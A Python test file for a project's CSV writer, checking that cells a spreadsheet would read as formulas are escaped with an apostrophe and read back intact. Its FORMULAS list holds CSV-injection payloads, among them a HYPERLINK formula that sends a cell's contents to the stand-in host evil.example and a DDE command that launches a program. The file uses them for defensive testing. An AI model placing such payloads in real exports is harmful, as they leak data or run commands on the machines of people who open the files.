"""CSV: what a spreadsheet would take for a formula is text, numbers are numbers, and our own readers get what was."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st
from places import ROOT
from small_sweep import small_sweep

from steercpp.data.items import BehaviorItem
from steercpp.engine.engine import Engine
from steercpp.reports.report import write_report
from steercpp.runs.judgement import judge
from steercpp.spreadsheets import cell_text, csv_bytes, safe_cell
from steercpp.statistics.curve_files import read_curve

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1+1", "\r=1+1",
    "\n=1+1", "  =1+1", "\xa0=1", "\ufeff=1", "=", "-", "--1", "-1;=1", "\uff1d1+1", "-0x1f", "-inf", "\tx", "\rx",
)  # fmt: skip
HARMLESS = ("a=1", "-0.5", "+1", "1e-3", "-.5", "'quoted", "'", "", "a-b", "1-2", "x@y", "\u2212" + "1")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_stands_after_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == f"'{text}" and cell_text(f"'{text}") == text
    assert safe_cell(f"'{text}") == f"''{text}"  # so that both can be told apart


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_none_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text == cell_text(text)


@given(st.lists(st.text(alphabet="'=+-@\t\r\n ;,\"a1.e\xa0\ud800", max_size=8), min_size=1, max_size=5))
def test_every_text_is_read_back(texts: list[str]) -> None:
    texts = [text.replace("\ud800", "") for text in texts]
    written = csv_bytes({"text": ["first", *texts], "B": [-0.5] * (len(texts) + 1)}).decode()
    rows = list(csv.reader(io.StringIO(written, newline="")))[2:]
    assert [cell_text(text) for text, _ in rows] == texts
    assert {number for _, number in rows} == {"-0.5"}
    assert not any(text[:1] in ("=", "@", "\t", "\r", "\n") for text, _ in rows)


def test_numbers_and_headings() -> None:
    table: dict[str, list[Any]] = {"=h": [-0.5, np.float32(-1), None, float("nan"), -3, True, "-7"], "'": ["=1"] * 7}
    assert csv_bytes(table) == b"'=h,'\n" + b"".join(b"%s,'=1\n" % cell for cell in (
        b"-0.5", b"-1", b"", b"", b"-3", b"True", b"-7"))  # fmt: skip


def test_fit_reads_the_headings_as_they_were(tmp_path: Path) -> None:
    path = tmp_path / "c.csv"
    path.write_bytes(csv_bytes({"strength": [-1.0, 1.0], "alignment": [-0.5, 0.5], "=x": [1, 2], "'-y": [1, 2]}))
    curve = read_curve(path)
    assert curve.ignored == ("=x", "'-y")
    assert curve.strengths.tolist() == [-1, 1] and curve.measures["alignment"].tolist() == [-0.5, 0.5]


def test_a_run_with_such_items(tiny_engine: Engine, tmp_path: Path) -> None:
    items = tuple(
        BehaviorItem(text, f"the {i}", (" no",), (" yes",), subject="=1+1") for i, text in enumerate(FORMULAS)
    )
    result = small_sweep(tiny_engine, tmp_path / "run", behavior=items, choice=(), random_directions=0)
    write_report(judge(result))
    for path in sorted((tmp_path / "run").glob("*.csv")):
        with path.open(newline="", encoding="utf-8") as file:
            heading, *rows = csv.reader(file)
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell[:1] in tuple("=@\t\r\n")], path.name
        numbers = [cell for cell in cells if cell[:1] in ("+", "-")]
        assert all(float(cell) <= 0 for cell in numbers)
        if path.stem == "items":
            assert [cell_text(row[heading.index("id")]) for row in rows] == list(FORMULAS)
            assert {row[heading.index("subject")] for row in rows} == {"'=1+1"}


def test_nothing_else_writes_csv() -> None:
    ways = {"writer", "DictWriter", "to_csv", "write_csv", "savetxt"}
    found = [
        f"{path.relative_to(ROOT)}:{node.lineno}"
        for folder in ("steercpp", "cli", "models")
        for path in (ROOT / folder).rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute) and node.attr in ways
        if node.attr != "writer" or (isinstance(node.value, ast.Name) and node.value.id == "csv")
    ]
    assert found == []
